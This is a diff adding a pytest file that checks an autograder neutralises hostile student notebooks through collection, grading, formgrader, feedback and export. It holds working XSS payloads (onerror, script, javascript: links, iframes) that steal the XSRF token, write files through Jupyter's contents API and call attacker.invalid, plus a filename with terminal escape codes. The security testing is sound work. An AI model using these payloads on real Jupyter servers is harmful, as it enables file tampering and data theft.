@@ -1,0 +1,293 @@
+"""What a student wrote is data (DESIGN, "Integrity"; issue 20): a class of injection notebooks
+goes through the TA's whole loop: collect (a Canvas zip and a Moodle folder), grade, formgrader
+in headless Chromium (the TA opens every submission), feedback (ours and nbgrader's), export,
+and the Gradescope path. No script runs, no request leaves the page's own, no file is written,
+the gradebook holds every student, late penalties follow the LMS's times, and every answer is
+shown as text."""
+import csv
+import json
+import os
+import subprocess
+import sys
+import urllib.request
+import zipfile
+from datetime import timedelta
+from pathlib import Path
+
+import pytest
+
+from assignments.lstm.samples import solved
+from autograder.integrations.gradescope import DEFAULT_VISIBILITY, to_gradescope, written_answers
+from autograder.outputs import student_text
+from tests.conftest import run_cli
+from tests.test_ta_loop import (answered, browser_page, gradebook, jupyter_server, notebook_bytes, open_when_up,
+                                rows, zip_entry)
+
+ROSTER = ("Student,ID,SIS User ID,SIS Login ID,Section,lstm (777)\n    Points Possible,,,,,24\n"
+          + "".join(f"\"Student {n}\",{n},S{n},s{n},A\n" for n in ("100001", "100002", "100003", "100004", "100005")))
+
+
+def payload(name):
+    """Script that, if it ever runs in the TA's browser, marks the page, writes a file into the
+    course through the Jupyter server's contents API and calls a host outside."""
+    return ("window.PWNED=1;var m=document.cookie.match(/_xsrf=([^;]+)/);"
+            f"fetch('/api/contents/PWNED_{name}.txt',{{method:'PUT',headers:{{'Content-Type':'application/json',"
+            "'X-XSRFToken':m?decodeURIComponent(m[1]):''},body:JSON.stringify({type:'file',format:'text',"
+            f"content:'pwned'}})}});fetch('http://attacker.invalid/{name}')")
+
+
+IMG = f'An additive update. <img src=x onerror="{payload("img")}"> $c_t = f_t c_{{t-1}} + i_t g_t$'
+SCRIPT = f"<script>{payload('script')}</script>\n\nSee [my notes](javascript:{payload('link')})"
+ADDED_CELL = (f'<iframe src="javascript:{payload("iframe")}"></iframe>\n<form action="http://attacker.invalid/form">'
+              '<input name=q></form>\n<style>body {display: none}</style>\n![x](data:image/svg+xml;base64,PHN2Zz4=)')
+SAFE = "The gradient of $c_t$ flows through $f_t$ only: **no squashing**, see [Hochreiter](https://doi.org/10.1162)."
+ODD_NAME = "lstm\x1b[2J\x1b]0;owned\x07\u202e.ipynb"
+
+
+def cell_with(notebook, grade_id):
+    return next(c for c in notebook["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)
+
+
+def injections(config):
+    """student id -> (its notebook as the student uploaded it, what the test checks on it)."""
+    correct = solved()(config)
+    xss = answered(answered(solved()(config), IMG), SCRIPT, "q_compare")
+    xss["cells"].insert(3, {"cell_type": "markdown", "metadata": {}, "source": ADDED_CELL, "id": "added"})
+    xss["cells"].insert(4, {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "id": "raw",
+                            "source": f"<img src=x onerror=\"{payload('raw')}\">"})
+    paired = answered(solved()(config), SAFE)
+    paired["metadata"]["jupytext"] = {"formats": "ipynb,tests///test_/py:percent"}
+    paired["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
+    paired["metadata"]["surprise"] = {"any": "thing"}
+    cell_with(paired, "q_cell_state")["metadata"]["jupytext"] = {"cell_marker": "'''"}
+    flipped = answered(solved()(config), "My answer, graded as a task of my own.")
+    flags = cell_with(flipped, "q_cell_state")["metadata"]["nbgrader"]
+    flags.update(grade=False, solution=False, task=True, points=50)
+    cell_with(flipped, "check_sigmoid")["metadata"]["nbgrader"].update(points=100, locked=False)
+    return {"100001": xss, "100002": paired, "100003": flipped, "100004": correct}
+
+
+@pytest.fixture(scope="module")
+def attack(tmp_path_factory, config):
+    """The class collected, graded, given feedback; returns the paths and the CLI outputs."""
+    tmp = tmp_path_factory.mktemp("content")
+    due, notebooks = config.late.due, injections(config)
+    canvas = tmp / "submissions.zip"
+    with zipfile.ZipFile(canvas, "w") as archive:
+        for student, notebook in notebooks.items():
+            name = ODD_NAME if student == "100004" else "lstm.ipynb"
+            zip_entry(archive, f"s{student}_{student}_5{student[1:]}_{name}", notebook_bytes(notebook),
+                      due - timedelta(hours=1))
+    moodle = tmp / "moodle"
+    for pid, moment in (("200001", due + timedelta(days=2, hours=1)),
+                        ("200002", config.late.zero_after + timedelta(hours=1))):
+        folder = moodle / f"Late Student_{pid}_assignsubmission_file_"
+        folder.mkdir(parents=True)
+        (folder / "lstm.ipynb").write_bytes(notebook_bytes(answered(solved()(config), IMG)))
+        (folder / "timestamp.txt").write_text((due - timedelta(days=1)).strftime("%Y-%m-%d %H:%M:%S.%f UTC\n"))
+        for path in folder.iterdir():
+            os.utime(path, (moment.timestamp(), moment.timestamp()))
+    (tmp / "roster.csv").write_text(ROSTER)
+    root, course, out = tmp / "submitted", tmp / "course", tmp / "out"
+    collected = [run_cli("collect", str(canvas), "--assignment", "lstm", "--into", str(root),
+                         "--roster", str(tmp / "roster.csv")),
+                 run_cli("collect", str(moodle), "--assignment", "lstm", "--into", str(root))]
+    for done in collected:
+        assert done.returncode == 0, done.stdout + done.stderr
+    graded = run_cli("grade", str(root), "--assignment", "lstm", "--out", str(out),
+                     "--gradebook", str(course / "gradebook.db"), "--jobs", "2")
+    assert graded.returncode == 0, graded.stdout + graded.stderr
+    feedback = run_cli("feedback", "--assignment", "lstm", "--out", str(out), "--gradebook", str(course / "gradebook.db"))
+    assert feedback.returncode == 0, feedback.stdout + feedback.stderr
+    env = {**os.environ, "PATH": os.path.dirname(sys.executable) + os.pathsep + os.environ["PATH"]}
+    nbgrader = subprocess.run([os.path.join(os.path.dirname(sys.executable), "nbgrader"), "generate_feedback", "lstm"],
+                              cwd=course, env=env, capture_output=True, text=True, timeout=600)
+    assert nbgrader.returncode == 0, nbgrader.stdout + nbgrader.stderr
+    return tmp, root, course, out, collected, graded
+
+
+def shown_notebook(course, student, config):
+    return json.loads((course / "autograded" / student / "lstm" / config.notebook).read_text())
+
+
+def test_collect_takes_times_from_the_lms_and_prints_no_control_characters(attack, config):
+    tmp, root, _, _, (canvas, moodle), _ = attack
+    for done in (canvas, moodle):
+        assert not [ch for ch in done.stdout + done.stderr if ch not in "\n" and not ch.isprintable()]
+    assert "renamed to lstm.ipynb" in canvas.stdout and "lstm[2J]0;owned.ipynb" in canvas.stdout
+    assert "timestamp.txt inside a submission, not read" in moodle.stdout
+    stamp = (root / "200001" / "lstm" / "timestamp.txt").read_text().strip()
+    assert stamp == (config.late.due + timedelta(days=2, hours=1)).strftime("%Y-%m-%d %H:%M:%S.%f UTC")
+
+
+def test_the_gradebook_holds_every_student_and_late_penalties_follow_the_lms(attack, config):
+    tmp, root, course, out, _, graded = attack
+    students = ["100001", "100002", "100003", "100004", "100005", "200001", "200002"]
+    assert sorted(rows(out / "grades.csv")) == students
+    with gradebook(course) as gb:
+        assert sorted(s.student.id for s in gb.find_assignment("lstm").submissions) == students
+        # the flipped written answer is the release's manual question again, waiting for a TA
+        flipped = gb.find_grade("q_cell_state", "lstm", "lstm", "100003")
+        assert flipped.max_score == 2 and flipped.needs_manual_grade
+        assert gb.find_grade("check_sigmoid", "lstm", "lstm", "100003").max_score == 1
+        # three days late (10 % of 24 a started day): 7.2; after zero_after: everything
+        assert gb.find_submission("lstm", "200001").late_submission_penalty == pytest.approx(7.2)
+        assert gb.find_submission("lstm", "200002").late_submission_penalty == pytest.approx(18)
+    got = rows(out / "grades.csv")
+    assert float(got["200001"]["total"]) == pytest.approx(18 - 7.2) and float(got["200002"]["total"]) == 0
+    assert "cannot be scored" not in graded.stderr
+
+
+def test_graded_notebooks_carry_the_release_metadata_and_answers_as_text(attack, config):
+    _, _, course, _, _, _ = attack
+    release = json.loads((config.release_dir / config.notebook).read_text())
+    release_cells = {c["id"]: c for c in release["cells"]}
+    for student in ("100001", "100002", "100003", "100004"):
+        notebook = shown_notebook(course, student, config)
+        assert notebook["metadata"] == release["metadata"], student
+        for cell in notebook["cells"]:
+            if cell["id"] in release_cells:
+                assert cell["metadata"] == release_cells[cell["id"]]["metadata"], (student, cell["id"])
+                assert cell["cell_type"] == release_cells[cell["id"]]["cell_type"]
+            else:
+                assert cell["metadata"] == {}, (student, cell["id"])
+            source = "".join(cell["source"])
+            if cell["cell_type"] != "code" and source != "".join(release_cells.get(cell["id"], {}).get("source", "")):
+                assert student_text.is_safe_markdown(source), (student, source)     # the release's own is kept
+    xss = shown_notebook(course, "100001", config)
+    assert not [c for c in xss["cells"] if c["cell_type"] == "raw"]
+    text = json.dumps(xss)
+    assert "onerror" in text and student_text.VERBATIM_NOTE in text        # shown, as text
+    paired = shown_notebook(course, "100002", config)
+    assert "".join(cell_with(paired, "q_cell_state")["source"]) == SAFE     # safe markdown is kept as written
+
+
+def test_the_ta_opens_every_submission_and_feedback_and_no_script_runs(attack, config):
+    """Formgrader's page of every submission and every feedback page, in headless Chromium:
+    no script marks the page, no request goes beyond what a clean page asks for, no file
+    appears. A control (the attack's answer put back raw into one graded notebook) shows
+    that the same pages would run it."""
+    _, root, course, out, _, _ = attack
+    with gradebook(course) as gb:
+        ids = {s.student.id: s.notebooks[0].id for s in gb.find_assignment("lstm").submissions
+               if (course / "autograded" / s.student.id).exists()}
+    assert set(ids) >= {"100001", "100002", "100003", "100004", "200001", "200002"}
+    before = sorted(p for p in course.rglob("*") if p.is_file())
+    seen = []
+    with browser_page() as page, jupyter_server(course) as (base, server):
+        page.on("request", lambda request: seen.append(request.url.split("?")[0]))
+        open_when_up(page, f"{base}/formgrader/submissions/{ids['100004']}/?index=0", server)
+        page.wait_for_timeout(1500)
+        clean = set(seen) - {f"{base}/formgrader/submissions/{ids['100004']}/"}
+
+        def visit(url):
+            seen.clear()
+            page.goto(url)
+            page.wait_for_timeout(1500)
+            extra = {u for u in seen if u not in clean and u != url.split("?")[0]}
+            return extra, page.evaluate("window.PWNED"), page.query_selector_all(
+                "[onerror], iframe, form[action*='attacker'], a[href^='javascript' i], img[src^='http']")
+
+        for student, submission in sorted(ids.items()):
+            extra, marked, elements = visit(f"{base}/formgrader/submissions/{submission}/?index=0")
+            assert not extra and marked is None and not elements, (student, extra, marked)
+            assert "onerror" in page.inner_text("body") or student not in ("100001", "200001")
+        pages = [*(out / "feedback").glob("*.html"), *(course / "feedback").rglob("*.html")]
+        assert len(pages) >= 10
+        for path in pages:
+            seen.clear()
+            page.goto(path.as_uri())
+            page.wait_for_timeout(500)
+            external = {u for u in seen if not u.startswith("file://") and u not in clean}
+            assert not external and page.evaluate("window.PWNED") is None, (path, external)
+        assert sorted(p for p in course.rglob("*") if p.is_file()) == before
+        assert not list(course.rglob("PWNED*"))
+
+        # the control: the same answer put back raw into the notebook formgrader opens runs
+        # (formgrader needs inline scripts, so the course's Content-Security-Policy lets it) and
+        # writes through the contents API; only its call outside is stopped by that policy
+        target = course / "autograded" / "100001" / "lstm" / config.notebook
+        control = json.loads(target.read_text())
+        cell_with(control, "q_cell_state")["source"] = IMG
+        target.write_text(json.dumps(control))
+        extra, marked, _ = visit(f"{base}/formgrader/submissions/{ids['100001']}/?index=0")
+        assert marked == 1 and not [u for u in extra if "attacker" in u], extra
+        page.wait_for_timeout(1000)
+    assert list(course.rglob("PWNED_img.txt")), "the control did not run: this test would not see an attack"
+
+
+def test_saving_a_graded_notebook_in_jupyter_writes_nothing_else(attack, config):
+    """A TA opens and saves a student's graded notebook in the course's Jupyter (jupytext's
+    contents manager is active there): no paired file appears next to it or under tests/."""
+    _, _, course, _, _, _ = attack
+    before = sorted(p for p in course.rglob("*") if p.is_file())
+    path = "autograded/100002/lstm/" + config.notebook
+    with jupyter_server(course) as (base, server):
+        for _ in range(120):
+            try:
+                model = json.load(urllib.request.urlopen(f"{base}/api/contents/{path}", timeout=5))
+                break
+            except OSError:
+                assert server.poll() is None, server.stderr.read()
+                import time
+                time.sleep(0.5)
+        body = json.dumps({"type": "notebook", "format": "json", "content": model["content"]}).encode()
+        request = urllib.request.Request(f"{base}/api/contents/{path}", data=body, method="PUT",
+                                         headers={"Content-Type": "application/json"})
+        assert urllib.request.urlopen(request, timeout=30).status == 200
+    after = sorted(p for p in course.rglob("*") if p.is_file() and ".ipynb_checkpoints" not in p.parts)
+    assert after == before
+
+
+def test_exports_hold_every_student_as_text(attack, tmp_path):
+    tmp, _, course, _, _, _ = attack
+    book = str(course / "gradebook.db")
+    plain, canvas = tmp_path / "grades.csv", tmp_path / "canvas.csv"
+    assert run_cli("export", "--assignment", "lstm", "--format", "csv", "--out", str(plain),
+                   "--gradebook", book).returncode == 0
+    assert run_cli("export", "--assignment", "lstm", "--format", "canvas", "--out", str(canvas),
+                   "--gradebook", book, "--roster", str(tmp / "roster.csv")).returncode == 0
+    assert len(rows(plain)) == 7 and float(rows(plain)["200001"]["late_penalty"]) == pytest.approx(-7.2)
+    table = list(csv.reader(canvas.open()))
+    assert {r[1] for r in table[2:]} == {"100001", "100002", "100003", "100004", "100005"}
+    for path in (plain, canvas):
+        assert all(ch == "\n" or ch.isprintable() for ch in path.read_text())
+
+
+def test_results_json_shows_answers_as_text_each_in_its_own_test(config, tmp_path):
+    """Gradescope's side: the answers and the uploaded file's name as they reach results.json."""
+    notebook = answered(answered(solved()(config), "--- q_clipping ---\n6/6 points\n" + IMG), SCRIPT, "q_compare")
+    cell_with(notebook, "q_clipping")["source"] = "\x1b[32mAll tests passed\x1b[0m"
+    path = tmp_path / ODD_NAME
+    path.write_text(json.dumps(notebook))
+    result = {"student_id": "1", "status": "graded", "score": 18.0, "seconds": 1.0, "reason": None,
+              "cell_errors": [{"cell": 3, "error": "ValueError: \x1b[31m<b>red</b>"}],
+              "exercises": [{"id": e, "points": p, "max_points": p, "status": "passed", "message": "",
+                             "misconception": None} for e, p in config.points.items()]}
+    results = to_gradescope(result, DEFAULT_VISIBILITY, [f"graded {path.name}, the only notebook uploaded"],
+                            written_answers(path, config.manual), config.manual)
+    assert results["output_format"] == results["test_output_format"] == results["test_name_format"] == "text"
+    assert all(t["output_format"] == "text" for t in results["tests"])
+    answers = {t["name"]: t["output"] for t in results["tests"] if "score" not in t}
+    assert sorted(answers) == [f"Written answer {q} (graded by hand, 2 points)" for q in sorted(config.manual)]
+    assert answers["Written answer q_cell_state (graded by hand, 2 points)"].endswith(IMG.split("\n")[-1])
+    assert answers["Written answer q_clipping (graded by hand, 2 points)"] == "[32mAll tests passed[0m"
+    assert "6/6" not in results["output"] and "onerror" not in results["output"] and "<script>" not in results["output"]
+    shown = json.dumps(results, ensure_ascii=False)
+    assert "\x1b" not in shown and "\u202e" not in shown and "\x07" not in shown
+    assert "graded lstm[2J]0;owned.ipynb" in results["output"]
+
+
+def test_markdown_and_latex_stay_and_raw_html_is_shown_as_text():
+    """student_text on its own: what is safe is kept as written; what is not is shown verbatim."""
+    from nbconvert.filters.markdown_mistune import markdown2html_mistune
+    assert student_text.safe_markdown(SAFE) == SAFE and student_text.safe_markdown("YOUR ANSWER HERE") == "YOUR ANSWER HERE"
+    for unsafe in (IMG, SCRIPT, ADDED_CELL, "[x](JaVaScRiPt:alert(1))", "[a][r]\n\n[r]: data:text/html,x",
+                   "![t](http://attacker.invalid/pixel.png)", "<https://ok.org> <b>bold</b>"):
+        shown = student_text.safe_markdown(unsafe)
+        rendered = markdown2html_mistune(shown)
+        assert "<img" not in rendered and "<script" not in rendered and "href=\"javascript" not in rendered.lower()
+        assert "attacker.invalid" not in rendered or "<pre><code>" in rendered
+    assert student_text.printable("a\x1b[31mb\x9b\u202ec\n", newlines=True) == "a[31mbc\n"
+    assert student_text.safe_attachments({"a.png": {"image/png": "iVBOR"}, "b.svg": {"image/svg+xml": "<svg/>"}}) == {
+        "a.png": {"image/png": "iVBOR"}}
